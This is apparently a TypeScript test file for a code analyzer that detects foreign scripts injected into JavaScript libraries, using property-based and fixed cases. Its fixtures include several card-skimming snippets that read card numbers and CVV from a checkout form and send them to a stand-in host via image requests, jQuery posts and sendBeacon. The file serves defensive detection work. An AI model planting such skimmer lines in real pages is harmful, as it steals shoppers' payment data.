import assert from 'node:assert/strict';
import fc from 'fast-check';
import { islandsOf } from '../../../analyzer/islands/index.ts';
import { parseScript } from '../../../analyzer/parse/index.ts';
import { collectFacts } from '../../../analyzer/static/facts.ts';

const of = (text: string) => {
  const facts = collectFacts(text, parseScript(text));
  return islandsOf(facts, new Uint8Array(facts.tree?.count ?? 0));
};

const guest = `document.querySelector('#checkout').addEventListener('submit', function () {
  var card = document.querySelector('#cc_number').value;
  new Image().src = 'https://stats.invalid/c?d=' + btoa(card);
});`;

/** A library whose functions use one another. */
const functions = (count: number): string =>
  Array.from(
    { length: count },
    (_, n) =>
      `function add${n}(one, other) { return n ? add${(n + 1) % count}(one, other) : one + other + n }`,
  ).join('\n');
const wrapped = (inside: string): string =>
  `(function (window, $) {\nvar n = 1;\n${functions(40)}\n${inside}\n${functions(40).replaceAll('add', 'sum')}\nreturn add0 })(window, jQuery);`;

describe('islandsOf', () => {
  it('finds a guest before, between and behind the statements of a library', () => {
    const [first, second] = [`var n = 1;\n${functions(40)}`, functions(40).replaceAll('add', 'sum')];
    for (const text of [
      `${guest}\n${first}\n${second}`,
      `${first}\n${guest}\n${second}`,
      `${first}\n${second}\n${guest}`,
    ])
      assert.deepEqual(
        of(text).map((island) => island.text),
        [guest],
      );
  });

  it('finds a guest inside the wrapper of a library', () => {
    assert.equal(of(wrapped(guest))[0]!.text, guest);
  });

  it('takes what a wrapper hands in for what it is on every page', () => {
    const asGuest = `$('#checkout').on('submit', function () { $.post('https://stats.invalid/c', { card: $('#cc_number').val(), cvv: window.cvv }) });`;
    assert.equal(of(wrapped(asGuest))[0]!.text, asGuest);
  });

  it('leaves alone what uses the code around it', () => {
    assert.deepEqual(of(wrapped(guest.replace('btoa(card)', 'add1(card)'))), []);
  });

  it('keeps the statements of a guest together when others stand between them', () => {
    const [one, other] = [
      `var where = 'https://stats.invalid/c?d=';`,
      guest.replace("'https://stats.invalid/c?d='", 'where'),
    ];
    const text = `var n = 1;\n${one}\n${functions(60)}\n${other}`;
    const [island] = of(text);
    assert.equal(island!.text, `${one}\n${other}`);
    assert.equal(text[island!.toScript(one.length + 1)], 'd');
    assert.equal(island!.toScript(one.length + 1), text.indexOf(other));
  });

  it('joins statements by globals that nobody declares', () => {
    const parts = [
      `skimmed = document.querySelector('#cc_number');`,
      `navigator.sendBeacon('https://stats.invalid/c', skimmed.value);`,
    ];
    const [island] = of(`var n = 1;\n${parts[0]!}\n${functions(60)}\n${parts[1]!}\n${'//'.padEnd(200)}`);
    assert.equal(island!.text, parts.join('\n'));
  });

  it('asks nothing of short scripts, of one statement, and of code that shows no signs', () => {
    assert.deepEqual(of(guest), []);
    assert.deepEqual(of(`(function () {\n${`${guest}\n`.repeat(1)}${' '.repeat(5_000)}})()`), []);
    assert.deepEqual(of(functions(80)), []);
  });

  it('gives text of the script, at the place it says', () => {
    const pieces = [
      guest,
      functions(3),
      wrapped(''),
      wrapped(guest),
      'x = 1;',
      '/* é\r\n */',
      '{',
      'return 1;',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), (parts) => {
        const text = parts.join('\n');
        const islands = of(text);
        assert.ok(islands.length <= 3);
        for (const island of islands)
          for (let at = 0; at < island.text.length; at += 7) {
            const same = text[island.toScript(at)];
            assert.ok(same === island.text[at] || '\n;'.includes(island.text[at]!));
          }
      }),
      { numRuns: 40 },
    );
  });
});
